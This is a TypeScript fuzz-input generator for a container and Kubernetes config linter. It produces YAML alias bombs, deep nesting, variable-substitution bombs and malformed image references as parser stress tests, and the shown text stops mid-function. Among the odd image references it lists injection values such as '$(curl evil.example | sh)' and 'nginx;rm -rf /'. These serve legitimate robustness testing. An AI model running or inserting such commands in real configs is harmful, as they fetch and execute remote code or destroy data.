// Fuzz inputs: the real corpus and the examples as they are, then mutations of them and
// generated texts aimed at the parsers' hard cases. Input `index` of a round depends only on the
// round's seed and the index, so any input can be made again on its own.

import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import * as path from 'node:path';
import { fileKindOf } from '../src/core/index.js';
import type { FileKind, RuleId, Severity } from '../src/core/index.js';
import { deriveSeed, mulberry32, type Random } from './prng.js';
import { chartBomb, dotenvBomb, kustomizeBomb, type ProjectMade } from './project.js';

/** A file the mutations start from. */
export interface SeedFile {
  readonly name: string;
  readonly kind: FileKind;
  readonly text: string;
}

/** Analysis options as plain data (`imageUsers` is a Map in the core; a record here, for JSON). */
export interface FuzzOptions {
  readonly buildArgs?: Readonly<Record<string, string>>;
  readonly composeEnv?: Readonly<Record<string, string>>;
  readonly rules?: Readonly<Partial<Record<RuleId, { enabled?: boolean; severity?: Severity | Record<string, Severity> }>>>;
  readonly imageUsers?: Readonly<Record<string, string>>;
}

export interface FuzzInput {
  readonly index: number;
  /** The generator or mutation that made the input (`seed` for a corpus file as it is). */
  readonly mutation: string;
  /** What exactly: the variant, the files it started from, the extra mutations applied. */
  readonly detail: string;
  readonly text: string;
  readonly options: FuzzOptions;
  /** Seeds the random edits of the incremental check. */
  readonly editSeed: number;
  /** For a project input (kustomizations, charts, env files): its files by relative path; `text` is one of them. */
  readonly files?: Readonly<Record<string, string>>;
}

export interface GenerateSettings {
  /** Upper bound of the generated huge manifests, in bytes. */
  readonly hugeBytes: number;
  /** Length of the single-line inputs, in characters. */
  readonly longLineBytes: number;
}

export const DEFAULT_SETTINGS: GenerateSettings = { hugeBytes: 4 * 1024 * 1024, longLineBytes: 1024 * 1024 };

/** The repository's test corpus (test/corpus) and its examples. */
export function loadSeeds(repoRoot: string): SeedFile[] {
  const corpus = path.join(repoRoot, 'test', 'corpus');
  const seeds: SeedFile[] = [];
  for (const [folder, kind] of [
    ['dockerfiles', 'dockerfile'],
    ['k8s', 'yaml'],
  ] as const) {
    const dir = path.join(corpus, folder);
    if (!existsSync(dir)) throw new Error(`fuzz: the corpus folder ${dir} is missing`);
    for (const name of readdirSync(dir).sort()) {
      const file = path.join(dir, name);
      if (statSync(file).isFile()) seeds.push({ name: `corpus/${folder}/${name}`, kind, text: readFileSync(file, 'utf8') });
    }
  }
  const examples = path.join(repoRoot, 'examples');
  const walk = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const file = path.join(dir, name);
      if (statSync(file).isDirectory()) walk(file);
      else {
        const kind = fileKindOf(name);
        if (kind) seeds.push({ name: path.relative(repoRoot, file), kind, text: readFileSync(file, 'utf8') });
      }
    }
  };
  if (existsSync(examples)) walk(examples);
  if (seeds.length < 20) throw new Error(`fuzz: only ${seeds.length} seed files found under ${corpus} and ${examples}`);
  return seeds;
}

// ---------------------------------------------------------------------------------------------
// Small helpers

const HEX = '0123456789abcdef';
const hex = (rng: Random, n: number) => Array.from({ length: n }, () => HEX[rng.int(0, 15)]).join('');
const DIGEST_64 = 'sha256:' + 'a'.repeat(64);

function insertAt(text: string, at: number, piece: string): string {
  return text.slice(0, at) + piece + text.slice(at);
}

/** A position in the text: half of the time the start of a line. */
function position(rng: Random, text: string): number {
  if (text.length === 0) return 0;
  const at = rng.int(0, text.length);
  if (rng.chance(0.5)) return text.lastIndexOf('\n', at - 1) + 1;
  return at;
}

function bytesMutation(text: string, change: (bytes: Buffer) => Buffer): string {
  return change(Buffer.from(text, 'utf8')).toString('utf8');
}

function small(seeds: readonly SeedFile[]): SeedFile[] {
  return seeds.filter((s) => s.text.length <= 256 * 1024);
}

/** A seed file, rarely one of the very large ones (argo-cd's install.yaml). */
function pickSeed(rng: Random, seeds: readonly SeedFile[], kind?: FileKind): SeedFile {
  const pool = seeds.filter((s) => kind === undefined || s.kind === kind);
  const smallPool = small(pool);
  return rng.chance(0.04) || smallPool.length === 0 ? rng.pick(pool) : rng.pick(smallPool);
}

function pod(image: string, extra = ''): string {
  return `apiVersion: v1\nkind: Pod\nmetadata:\n  name: fuzz\nspec:\n  containers:\n    - name: app\n      image: ${image}\n${extra}`;
}

function deployment(image: string, podExtra = '', containerExtra = ''): string {
  return (
    [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata:',
      '  name: fuzz',
      '  namespace: ns',
      'spec:',
      '  template:',
      '    spec:',
      podExtra,
      '      containers:',
      '        - name: app',
      `          image: ${image}`,
      containerExtra,
      '',
    ]
      .filter((l) => l !== '')
      .join('\n') + '\n'
  );
}

// ---------------------------------------------------------------------------------------------
// Dictionaries

const YAML_TOKENS = [
  '---\n',
  '\n---\n',
  '--- ',
  '...\n',
  '%YAML 1.2\n---\n',
  '%TAG ! tag:x:\n',
  '&a ',
  '*a',
  '*b',
  '<<: *a\n',
  '<<: [*a, *b]\n',
  '!!str ',
  '!!binary ',
  '!!map ',
  '!foo ',
  '? ',
  ': ',
  ':',
  '- ',
  '-\n',
  '|\n',
  '>-\n',
  '|+2\n',
  '{',
  '}',
  '[',
  ']',
  ',',
  '"',
  "'",
  '\\"',
  '#',
  ' #',
  '\t',
  '  ',
  '\n',
  'image: ',
  'image: nginx\n',
  'image:\n',
  'image: [nginx]\n',
  'image: {a: b}\n',
  'image: *a\n',
  'image: &a nginx:1\n',
  'containers:\n',
  'containers: []\n',
  'initContainers: [',
  'ephemeralContainers:\n- image: x\n',
  'kind: Pod\n',
  'kind: List\n',
  'kind: PodList\n',
  'kind: CronJob\n',
  'kind: ConfigMap\n',
  'items:\n',
  'items:\n- ',
  'apiVersion: v1\n',
  'services:\n',
  'services:\n  a:\n    image: x\n',
  'build: .\n',
  'platform: $P\n',
  'securityContext:\n',
  'securityContext: {}\n',
  'securityContext: ~\n',
  'runAsUser: 0\n',
  'runAsUser: -1\n',
  'runAsUser: 1e400\n',
  'runAsNonRoot: true\n',
  'runAsNonRoot: ~\n',
  'spec:\n',
  'template:\n',
  'metadata: {name: x}\n',
  'name: ',
  '{{ .Values.x }}',
  '{{- if x }}\n',
  '# shipshape-ignore\n',
  '# shipshape-ignore root-user\n',
  ' # shipshape-ignore unpinned-image,invalid-reference',
  'null',
  '~',
  '0x1F',
  '1e3',
  '.inf',
  'yes',
  '0o17',
  '"\\u0000"',
  '"\\x41"',
  "'it''s'",
];

const DOCKERFILE_TOKENS = [
  'FROM ',
  'FROM scratch\n',
  'FROM nginx AS b\n',
  'FROM b\n',
  ' AS ',
  ' as x',
  '--platform=$BUILDPLATFORM ',
  '--platform=',
  'ARG ',
  'ARG X\n',
  'ARG X=y\n',
  'ARG BASE=alpine:3\n',
  'ENV ',
  'ENV X=1\n',
  'ENV X 1\n',
  'USER root\n',
  'USER 0:0\n',
  'USER $X\n',
  'USER\n',
  'COPY --from=',
  'COPY --from=nginx /a /b\n',
  'COPY --from=0 /a /b\n',
  'ADD --from=x ',
  'ONBUILD ',
  'RUN x\n',
  '\\\n',
  '`\n',
  '# escape=`\n',
  '# escape=\\\n',
  '# syntax=docker/dockerfile:1\n',
  '<<EOF\n',
  'EOF\n',
  'RUN <<EOF\n',
  '$',
  '${',
  '${X',
  '${X:-',
  '${X:+',
  '${X?',
  '${X-',
  '}',
  '$$',
  '$(',
  ')',
  ';',
  '&&',
  '|',
  '\\',
  '`',
  '"',
  "'",
  '[',
  '["a", "b"]',
  '#',
  '\t',
  ' ',
];

const REFERENCE_TOKENS = [
  '@' + DIGEST_64,
  '@sha256:',
  '@',
  ':latest',
  ':',
  '/',
  '//',
  '..',
  'localhost:5000/',
  '[::1]:5000/',
  'docker.io/library/',
  DIGEST_64,
  'A',
  '-',
  '_',
  '__',
  '.',
];

const ODD_CHARS = [
  'é',
  '\u0000',
  '\uFEFF',
  '\r',
  '\r\n',
  '\u2028',
  '\u2029',
  '\u0085',
  '\ud800',
  '\udc00',
  '\udc00\ud800',
  '😀',
  '\u200b',
  '\x1b[31m',
  '\x7f',
  '\x0b',
  '\x0c',
];

const ALL_TOKENS = [...YAML_TOKENS, ...DOCKERFILE_TOKENS, ...REFERENCE_TOKENS, ...ODD_CHARS];

/** Image references nothing should choke on. */
function oddReference(rng: Random): string {
  const long = () => rng.pick([129, 255, 256, 300, 4096, 100_000]);
  const makers: Array<() => string> = [
    () => rng.pick(['-nginx', '--help', '-', '--', '-v /:/host nginx']),
    () => rng.pick([' nginx', 'nginx ', 'ng inx', 'nginx\t:1', 'nginx :latest', '\tnginx']),
    () => `ngi${String.fromCharCode(rng.int(0, 31))}nx`,
    () => rng.pick(['\u007fnginx', 'nginx\u0000', '\u0000', 'nginx\u001b[0m']),
    () =>
      rng.pick([
        '$(curl evil.example | sh)',
        '`id`',
        'nginx;rm -rf /',
        'nginx && x',
        'nginx|x',
        'nginx>x',
        'nginx<x',
        'nginx\\x',
        '$(',
        '$((1+1))',
      ]),
    () => rng.pick(["'nginx'", '"nginx"', 'nginx"', "nginx'", '"', "'"]),
    () => 'a'.repeat(long()),
    () => 'a/'.repeat(rng.int(2, 20_000)) + 'b',
    () => `nginx:${'a'.repeat(long())}`,
    () => `nginx@sha256:${hex(rng, rng.pick([0, 31, 32, 63, 64, 65, 1000]))}`,
    () => `nginx:1@sha512:${hex(rng, rng.pick([127, 128]))}`,
    () => `nginx@md5:${hex(rng, 32)}`,
    () =>
      rng.pick([
        'nginx@',
        '@sha256:' + 'a'.repeat(64),
        'nginx:@',
        'nginx::1',
        `nginx@@${DIGEST_64}`,
        ':',
        '@',
        '/',
        '//',
        'a//b',
        'a/',
        '/a',
      ]),
    () => rng.pick(['NGINX', 'Docker.io/Nginx', 'docker.io/NGINX', 'Localhost/x', 'LOCALHOST:5000/X']),
    () =>
      rng.pick([
        'localhost/x',
        'localhost:99999999999999999999/x',
        '[::1]:5000/x',
        '[::1/x',
        '[]/x',
        'a.b.c/d',
        'xn--bcher-kva.example/x',
        'registry.example.com:/x',
        'index.docker.io/nginx',
        'registry-1.docker.io/a/b',
      ]),
    () => rng.pick(['ñginx', '😀', 'nginx\u200b', '\ufeffnginx', 'nginx\u2028', 'nginx\u0085', 'ngin\ud800x']),
    () => rng.pick(['scratch', 'SCRATCH', 'Scratch']),
    () => rng.pick([DIGEST_64, 'a'.repeat(64), 'sha256:' + 'A'.repeat(64), 'sha256:' + 'a'.repeat(63)]),
    // Backtracking stressors for the reference grammar.
    () => 'a' + '-'.repeat(rng.int(10, 50_000)) + '!',
    () => 'a.'.repeat(rng.int(10, 50_000)) + '!',
    () => 'a_'.repeat(rng.int(10, 50_000)) + '!',
    () => 'a__'.repeat(rng.int(10, 30_000)) + '_!',
    () => 'a-'.repeat(rng.int(10, 50_000)) + '/',
    () => 'a.a'.repeat(rng.int(10, 20_000)) + ':',
    () => 'a/'.repeat(rng.int(10, 30_000)) + ':!',
    () => '[' + ':'.repeat(rng.int(10, 50_000)),
    () => 'a:' + '1'.repeat(rng.int(10, 50_000)) + '/x',
    () => 'a@' + 'b'.repeat(rng.int(10, 50_000)) + ':' + 'a'.repeat(rng.int(10, 50_000)) + 'g',
    () => 'a@' + 'b.'.repeat(rng.int(10, 20_000)) + ':',
    () => rng.pick(['{{ .Values.image }}', '<%= image %>', '{% x %}', '}}', '{{']),
    () =>
      rng.pick(['${IMAGE}', '$IMAGE', '${IMAGE:-nginx}', '${IMAGE:?no}', '${IMAGE/a/b}', '${', '$', '$$', '${}', '${IMAGE', '${1}', '$1']),
  ];
  let ref = rng.pick(makers)();
  if (rng.chance(0.2)) ref = ref + rng.pick(REFERENCE_TOKENS) + rng.pick(makers)();
  return ref;
}

function quoteYaml(rng: Random, value: string): string {
  switch (rng.int(0, 3)) {
    case 0:
      return value;
    case 1:
      return JSON.stringify(value);
    case 2:
      return `'${value.replace(/'/g, "''")}'`;
    default:
      return `"${value}"`;
  }
}

// ---------------------------------------------------------------------------------------------
// Mutations of a text

function byteFlip(rng: Random, text: string): string {
  return bytesMutation(text, (bytes) => {
    if (bytes.length === 0) return Buffer.from([rng.int(0, 255)]);
    const count = rng.skewed(1, 16);
    for (let i = 0; i < count; i++) {
      const at = rng.int(0, bytes.length - 1);
      bytes[at] = rng.chance(0.5) ? bytes[at]! ^ (1 << rng.int(0, 7)) : rng.int(0, 255);
    }
    return bytes;
  });
}

function truncate(rng: Random, text: string): string {
  // At a byte, so that a multi-byte character can be cut in half.
  return bytesMutation(text, (bytes) => bytes.subarray(0, rng.int(0, bytes.length)));
}

function tokens(rng: Random, text: string): string {
  let out = text;
  const count = rng.skewed(1, 8);
  for (let i = 0; i < count; i++) {
    const token = rng.pick(ALL_TOKENS);
    const at = position(rng, out);
    out = rng.chance(0.3) ? out.slice(0, at) + token + out.slice(Math.min(out.length, at + rng.int(1, 12))) : insertAt(out, at, token);
  }
  return out;
}

function lines(rng: Random, text: string): string {
  const all = text.split('\n');
  const count = rng.skewed(1, 6);
  for (let i = 0; i < count && all.length > 0; i++) {
    const at = rng.int(0, all.length - 1);
    switch (rng.int(0, 5)) {
      case 0:
        all.splice(at, 0, all[rng.int(0, all.length - 1)]!);
        break; // duplicate a line elsewhere
      case 1:
        all.splice(at, rng.int(1, 4));
        break; // delete lines
      case 2: {
        const other = rng.int(0, all.length - 1);
        [all[at], all[other]] = [all[other]!, all[at]!];
        break;
      }
      case 3:
        all[at] = ' '.repeat(rng.int(1, 4)) + all[at];
        break; // indent
      case 4:
        all[at] = all[at]!.replace(/^[ \t]{1,4}/, '');
        break; // dedent
      default:
        all[at] = all[at]!.replace(/^ +/, (s) => '\t'.repeat(Math.max(1, s.length >> 1)));
        break; // tabs
    }
  }
  return all.join('\n');
}

function lineEndings(rng: Random, text: string): string {
  switch (rng.int(0, 4)) {
    case 0:
      return text.replace(/\r?\n/g, '\r\n');
    case 1:
      return text.replace(/\n/g, () => (rng.chance(0.5) ? '\r\n' : '\n'));
    case 2:
      return text.replace(/\r?\n/g, '\r'); // old Mac: no \n at all
    case 3:
      return text.replace(/\n/g, '\r\r\n');
    default:
      return text.replace(/\r?\n/g, '\r\n') + (rng.chance(0.5) ? '\r' : '\\\r\n');
  }
}

function bom(rng: Random, text: string): string {
  switch (rng.int(0, 3)) {
    case 0:
      return '\uFEFF' + text;
    case 1:
      return '\uFEFF\uFEFF' + text;
    case 2:
      return text.replace(/^---/gm, () => (rng.chance(0.5) ? '\uFEFF---' : '---\n\uFEFF'));
    default:
      return insertAt(text, position(rng, text), '\uFEFF');
  }
}

function nul(rng: Random, text: string): string {
  let out = text;
  const count = rng.skewed(1, 10);
  for (let i = 0; i < count; i++) {
    const image = out.indexOf('image', rng.int(0, out.length));
    const at = image !== -1 && rng.chance(0.4) ? image + rng.int(0, 20) : position(rng, out);
    out = insertAt(out, Math.min(at, out.length), rng.chance(0.8) ? '\u0000' : '\u0000'.repeat(rng.int(2, 1000)));
  }
  return out;
}

const INVALID_UTF8 = [
  [0xff],
  [0xfe],
  [0xc3, 0x28],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xe2, 0x82],
  [0x80],
  [0xf4, 0x90, 0x80, 0x80],
];

function invalidUtf8(rng: Random, text: string): string {
  if (rng.chance(0.3)) {
    // What an editor can hold: lone UTF-16 surrogates.
    let out = text;
    const count = rng.skewed(1, 6);
    for (let i = 0; i < count; i++) out = insertAt(out, position(rng, out), rng.pick(['\ud800', '\udfff', '\udc00\ud800', '\ud83d']));
    return out;
  }
  return bytesMutation(text, (bytes) => {
    const parts: Buffer[] = [];
    let last = 0;
    const cuts = Array.from({ length: rng.skewed(1, 8) }, () => rng.int(0, bytes.length)).sort((a, b) => a - b);
    for (const cut of cuts) {
      parts.push(bytes.subarray(last, cut), Buffer.from(rng.pick(INVALID_UTF8)));
      last = cut;
    }
    parts.push(bytes.subarray(last));
    return Buffer.concat(parts);
  });
}

function splice(rng: Random, a: string, b: string): string {
  return a.slice(0, rng.int(0, a.length)) + b.slice(rng.int(0, b.length));
}

/** Cheap mutations that may be stacked on any input. */
const HAVOC: Array<[string, (rng: Random, text: string) => string]> = [
  ['byte-flip', byteFlip],
  ['truncate', truncate],
  ['tokens', tokens],
  ['lines', lines],
  ['crlf', lineEndings],
  ['bom', bom],
  ['nul', nul],
  ['invalid-utf8', invalidUtf8],
];

// ---------------------------------------------------------------------------------------------
// Generators

interface Made {
  readonly text: string;
  readonly detail: string;
  readonly options?: FuzzOptions;
}

function deepNesting(rng: Random): Made {
  const style = rng.pick(['block-map', 'block-seq', 'compact-seq', 'flow-seq', 'flow-map', 'flow-mixed', 'json', 'block-seq-of-maps']);
  const flow = style.startsWith('flow') || style === 'json' || style === 'compact-seq';
  // Block nesting grows quadratically with depth (indentation), so it stays shallower.
  const depth = flow ? rng.pick([100, 300, 1000, 5000, 30_000]) : rng.pick([50, 300, 600, 1000, 1500]);
  const closed = rng.chance(0.7);
  const leaf = rng.pick(['nginx:1.27', 'x', '', '*a', '{{ x }}']);
  const indentUnit = rng.pick([1, 2]);
  let nested: string;
  switch (style) {
    case 'block-map':
      nested =
        '\n' +
        Array.from({ length: depth }, (_, i) => `${' '.repeat((i + 1) * indentUnit)}${rng.chance(0.1) ? 'image' : 'a'}:`).join('\n') +
        ` ${leaf}`;
      break;
    case 'block-seq':
      nested = '\n' + Array.from({ length: depth }, (_, i) => `${' '.repeat((i + 1) * indentUnit)}-`).join('\n') + ` ${leaf}`;
      break;
    case 'block-seq-of-maps':
      nested = '\n' + Array.from({ length: depth }, (_, i) => `${' '.repeat((i + 1) * 2)}- image:`).join('\n') + ` ${leaf}`;
      break;
    case 'compact-seq':
      nested = ' ' + '- '.repeat(depth) + leaf;
      break;
    case 'flow-seq':
      nested = ' ' + '['.repeat(depth) + leaf + (closed ? ']'.repeat(depth) : '');
      break;
    case 'flow-map':
      nested = ' ' + '{image: '.repeat(depth) + leaf + (closed ? '}'.repeat(depth) : '');
      break;
    case 'flow-mixed':
      nested = ' ' + '[{a: '.repeat(depth) + leaf + (closed ? '}]'.repeat(depth) : '');
      break;
    default:
      nested = ' ' + '{"image":['.repeat(depth) + '"x"' + (closed ? ']}'.repeat(depth) : '');
      break;
  }
  const place = rng.pick(['document', 'image', 'containers', 'spec', 'services', 'items', 'securityContext', 'json-document']);
  let text: string;
  switch (place) {
    case 'document':
      text = `root:${nested}\n`;
      break;
    case 'image':
      text = pod(nested.startsWith('\n') ? nested.replace(/\n/g, '\n        ') : nested.trimStart());
      break;
    case 'containers':
      text = `apiVersion: v1\nkind: Pod\nspec:\n  containers:${nested.replace(/\n/g, '\n  ')}\n`;
      break;
    case 'spec':
      text = `apiVersion: apps/v1\nkind: Deployment\nspec:${nested}\n`;
      break;
    case 'services':
      text = `services:${nested}\n`;
      break;
    case 'items':
      text = `apiVersion: v1\nkind: List\nitems:${nested}\n`;
      break;
    case 'securityContext':
      text = `apiVersion: v1\nkind: Pod\nspec:\n  securityContext:${nested.replace(/\n/g, '\n  ')}\n  containers:\n  - image: x\n`;
      break;
    default:
      text = `{"apiVersion": "v1", "kind": "Pod", "spec": {"containers": ${'['.repeat(depth)}${closed ? ']'.repeat(depth) : ''}}}`;
      break;
  }
  return { text, detail: `${style} depth ${depth}${closed ? '' : ' unclosed'} in ${place}` };
}

function aliasBomb(rng: Random): Made {
  const variant = rng.pick(['laughs-containers', 'laughs-env', 'merge-bomb', 'merge-chain', 'compose', 'many-aliases', 'self-reference']);
  const levels = rng.int(4, 12);
  const width = rng.int(2, 10);
  const bombs: string[] = [];
  let text: string;
  switch (variant) {
    case 'laughs-containers':
    case 'laughs-env': {
      bombs.push(`x0: &a0 ${rng.chance(0.5) ? '{name: lol, image: "nginx:1"}' : '["lol", "lol"]'}`);
      for (let i = 1; i <= levels; i++)
        bombs.push(
          `x${i}: &a${i} [${Array(width)
            .fill(`*a${i - 1}`)
            .join(', ')}]`,
        );
      const top = `*a${levels}`;
      text =
        variant === 'laughs-containers'
          ? `apiVersion: v1\nkind: Pod\n${bombs.join('\n')}\nspec:\n  containers: ${top}\n  initContainers:\n  - image: x\n    env: ${top}\n`
          : deployment('nginx', '', `          env: ${top}\n          securityContext: ${top}`) + bombs.join('\n') + '\n';
      break;
    }
    case 'merge-bomb': {
      bombs.push('m0: &m0 {image: "nginx:1", securityContext: {runAsUser: 0}}');
      for (let i = 1; i <= levels; i++)
        bombs.push(
          `m${i}: &m${i} {<<: [${Array(width)
            .fill(`*m${i - 1}`)
            .join(', ')}]}`,
        );
      text =
        `apiVersion: v1\nkind: Pod\n${bombs.join('\n')}\nmetadata: {<<: *m${levels}}\nspec:\n  <<: *m${levels}\n  securityContext: {<<: ` +
        `*m${levels}}\n  containers:\n  - <<: *m${levels}\n    name: c\n`;
      break;
    }
    case 'merge-chain': {
      const depth = rng.pick([10, 100, 1000, 2000]);
      bombs.push('c0: &c0 {image: "nginx:1"}');
      for (let i = 1; i <= depth; i++) bombs.push(`c${i}: &c${i} {<<: *c${i - 1}${rng.chance(0.1) ? `, k${i}: v` : ''}}`);
      text = `apiVersion: v1\nkind: Pod\n${bombs.join('\n')}\nspec:\n  <<: *c${depth}\n  containers:\n  - <<: *c${depth}\n`;
      break;
    }
    case 'compose': {
      bombs.push('x-b0: &b0 {image: "nginx:${TAG:-1}", platform: linux/amd64}');
      for (let i = 1; i <= levels; i++)
        bombs.push(
          `x-b${i}: &b${i} {<<: [${Array(width)
            .fill(`*b${i - 1}`)
            .join(', ')}]}`,
        );
      text =
        `${bombs.join('\n')}\nservices:\n${Array.from({ length: rng.int(1, 50) }, (_, i) => `  s${i}: *b${rng.int(0, levels)}`).join('\n')}\n  ` +
        `last:\n    <<: *b${levels}\n    build: .\n`;
      break;
    }
    case 'many-aliases': {
      const count = rng.pick([999, 1000, 1001, 20_000]);
      text = pod('&i nginx:1', `    - name: b\n      image: *i\n      env: [${Array(count).fill('*i').join(', ')}]\n`);
      break;
    }
    default:
      text = rng.pick([
        'apiVersion: v1\nkind: Pod\nspec: &s\n  containers: *s\n',
        'apiVersion: v1\nkind: Pod\nspec: &s\n  <<: *s\n  containers:\n  - image: *s\n',
        'a: &a [*a]\napiVersion: v1\nkind: Pod\nspec: {containers: *a}\n',
        'apiVersion: v1\nkind: Pod\nspec:\n  containers: &c\n  - image: x\n    env: *c\n  initContainers: *c\n',
        'services: &s\n  a:\n    <<: *s\n    image: x\n',
      ]);
  }
  return { text, detail: `${variant} (${levels} levels x ${width})` };
}

function dockerfileEscapes(rng: Random): Made {
  const escapeDirective = rng.pick(['`', '\\', 'x', '', '``', ' `']);
  const E = escapeDirective === '`' || escapeDirective === ' `' ? '`' : '\\';
  const head = rng.pick([
    `# escape=${escapeDirective}\n`,
    `#escape =${escapeDirective}\n`,
    `# ESCAPE=${escapeDirective}\n`,
    `# syntax=docker/dockerfile:1\n# escape=${escapeDirective}\n`,
    `# escape=${escapeDirective}\n# escape=\\\n`,
    '',
    `\n# escape=${escapeDirective}\n`,
  ]);
  const pool = [
    `FROM nginx${E}\n  :1.27`,
    `FROM ${E}\n nginx`,
    `FROM --platform=linux/amd64 ${E}\n  alpine AS build`,
    `ARG A=${E}\n  x`,
    `RUN a ${E}\n# comment\n  b`,
    `RUN a ${E}   \n  b`,
    `RUN a ${E}\n\n  b`,
    `COPY --from=build${E}\n /a /b`,
    `USER ro${E}\not`,
    'RUN <<EOF\nx\nEOF',
    'COPY <<-EOT /x\n\tEOT',
    `FROM x ${E}`,
    `${E}${E}${E}\n`,
    `ENV A=1 B=${E}\n 2`,
    `FROM $A${E}\n$B`,
    'onbuild from x',
    'from x as Y\nfrom y',
    `FROM ngi${E}nx`,
    `FROM "nginx${E}"`,
    `FROM 'ng${E}'inx'`,
    `ARG X="a${E}"b"\nFROM $X`,
    'FROM nginx:1.27 AS base',
    'FROM base',
    'USER root',
    'USER 1000',
    `USER ${E}\n root`,
    'ARG BASE=alpine:3.20\nFROM ${BASE}',
    `COPY --from=${E}\n nginx /a /b`,
    'FROM',
    'FROM --platform=',
    'FROM AS x',
    'FROM a AS',
    `${E}`,
    `# comment ${E}`,
    `RUN "${E}`,
  ];
  const count = rng.int(2, 40);
  let text = head + Array.from({ length: count }, () => rng.pick(pool)).join('\n');
  if (rng.chance(0.5)) text += '\n';
  if (rng.chance(0.2)) text = text.replace(/\n/g, '\r\n');
  return { text, detail: `escape ${JSON.stringify(escapeDirective)}, ${count} lines` };
}

function substitutionBomb(rng: Random): Made {
  const variant = rng.pick([
    'nested-default',
    'nested-mixed',
    'unclosed',
    'doubling-arg',
    'doubling-env',
    'mutual',
    'many-vars',
    'dollars',
    'compose-nested',
    'compose-env',
    'build-arg',
    'stage-wildcards',
  ]);
  const depth = rng.pick([16, 17, 100, 1000, 20_000]);
  const nested = (ops: readonly string[]) =>
    Array.from({ length: depth }, (_, i) => `\${V${i % 7}${rng.pick(ops)}`).join('') + 'nginx' + '}'.repeat(depth);
  let text: string;
  let options: FuzzOptions | undefined;
  switch (variant) {
    case 'nested-default':
      text = `FROM ${nested([':-'])}\n`;
      break;
    case 'nested-mixed':
      text = `ARG V1=x\nARG X=${nested([':-', '-', ':+', '+', ':?', '?'])}\nFROM $X\nUSER ${nested([':-'])}\n`;
      break;
    case 'unclosed':
      text = `ARG X=${'${A:-'.repeat(depth)}\nFROM $X AS ${'${B:-'.repeat(depth)}\nCOPY --from=${'${'.repeat(depth)} /a /b\n`;
      break;
    case 'doubling-arg': {
      const n = rng.int(10, 64);
      const lines = ['ARG A0=nginx'];
      for (let i = 1; i < n; i++) lines.push(`ARG A${i}=\${A${i - 1}}\${A${i - 1}}`);
      text = `${lines.join('\n')}\nFROM --platform=$A${n - 1} \${A${n - 1}}\nARG A${n - 1}\nUSER $A${n - 1}\nCOPY --from=$A${n - 1} /a /b\n`;
      break;
    }
    case 'doubling-env': {
      const n = rng.int(10, 64);
      const lines = ['FROM nginx:1', 'ENV E0=root'];
      for (let i = 1; i < n; i++) lines.push(`ENV E${i}=$E${i - 1}$E${i - 1}`);
      text = `${lines.join('\n')}\nUSER $E${n - 1}\nFROM 0\nCOPY --from=\${E${n - 1}:-x} /a /b\n`;
      break;
    }
    case 'mutual':
      text = rng.pick([
        'ARG A=$B\nARG B=$A\nFROM $A\n',
        'ARG A=${A}${A}\nFROM $A\n',
        'ARG A=${B:-$A}\nARG B=${A:-$B}\nFROM ${A:-$B}\n',
        'FROM x\nENV A=$A$A B=$A$B\nUSER $B\n',
        'ARG A=${A:-${A:-${A}}}\nFROM $A AS $A\nFROM $A\n',
      ]);
      break;
    case 'many-vars':
      text = `ARG A=a\nFROM ${'$A'.repeat(rng.pick([1000, 100_000]))}\n`;
      break;
    case 'stage-wildcards': {
      // A FROM built from variables, matched against the stage names.
      const stage = rng.pick(['a', 'ab', 'build-']).repeat(rng.int(5, 100));
      const unit = rng.pick(['${A}a', '$A-', '${A}b${B}', '$A']);
      text = `FROM nginx:1 AS ${stage}\nFROM alpine AS other\nFROM ${unit.repeat(rng.int(5, 300))}${rng.pick(['z', '', 'a'])}\n`;
      break;
    }
    case 'dollars':
      text = `FROM ${'$'.repeat(rng.pick([1000, 100_000]))}nginx\nUSER ${'${'.repeat(1000)}\n`;
      break;
    case 'compose-nested':
      text = `services:\n  a:\n    image: "${nested([':-', '-', ':?'])}"\n    platform: "${nested([':-'])}"\n`;
      break;
    case 'compose-env': {
      const n = rng.int(10, 40);
      const env: Record<string, string> = { A0: 'x' };
      for (let i = 1; i < n; i++) env[`A${i}`] = `\${A${i - 1}}\${A${i - 1}}`;
      options = { composeEnv: env };
      text = `services:\n  a:\n    image: "\${A${n - 1}}:\${A${n - 1}:-1}"\n  b:\n    image: ${'$$'.repeat(1000)}\n`;
      break;
    }
    default: {
      const big = 'x'.repeat(rng.pick([1000, 100_000, 1_000_000]));
      options = { buildArgs: { A: big, B: '${A}${A}', TARGETPLATFORM: big, BASE: 'nginx:1' } };
      text = `ARG A\nARG B\nARG C=$A$A$A$A\nFROM --platform=$TARGETPLATFORM $A$A$C\nUSER $C\nFROM $BASE\n`;
    }
  }
  return { text, detail: `${variant} depth ${depth}`, ...(options && { options }) };
}

function oddReferences(rng: Random): Made {
  const count = rng.skewed(1, 6);
  const refs = Array.from({ length: count }, () => oddReference(rng));
  const where = rng.pick(['dockerfile', 'kubernetes', 'compose', 'json']);
  let text: string;
  switch (where) {
    case 'dockerfile':
      text =
        refs
          .map((ref, i) =>
            rng.pick([
              `FROM ${ref}`,
              `FROM ${ref} AS s${i}`,
              `FROM --platform=${ref} nginx`,
              `COPY --from=${ref} /a /b`,
              `ARG B${i}=${ref}\nFROM $B${i}`,
              `USER ${ref}`,
              `FROM nginx:1 AS ${ref}\nFROM ${ref}`,
            ]),
          )
          .join('\n') + '\n';
      break;
    case 'kubernetes':
      text = deployment(
        quoteYaml(rng, refs[0]!),
        '',
        refs
          .slice(1)
          .map((ref, i) => `        - name: c${i}\n          image: ${quoteYaml(rng, ref)}`)
          .join('\n'),
      );
      break;
    case 'compose':
      text = `services:\n${refs.map((ref, i) => `  s${i}:\n    image: ${quoteYaml(rng, ref)}\n    platform: ${quoteYaml(rng, ref)}`).join('\n')}\n`;
      break;
    default:
      text = JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'x' },
        spec: { containers: refs.map((image, i) => ({ name: `c${i}`, image })) },
      });
  }
  return { text, detail: `${count} odd references in ${where}` };
}

function longLine(rng: Random, size: number): Made {
  const variant = rng.pick([
    'yaml-image',
    'yaml-quoted-image',
    'yaml-comment',
    'yaml-flow-seq',
    'yaml-key',
    'json-one-line',
    'no-newline-garbage',
    'dockerfile-from',
    'dockerfile-run',
    'dockerfile-arg',
    'dockerfile-comment',
    'dockerfile-continuations',
  ]);
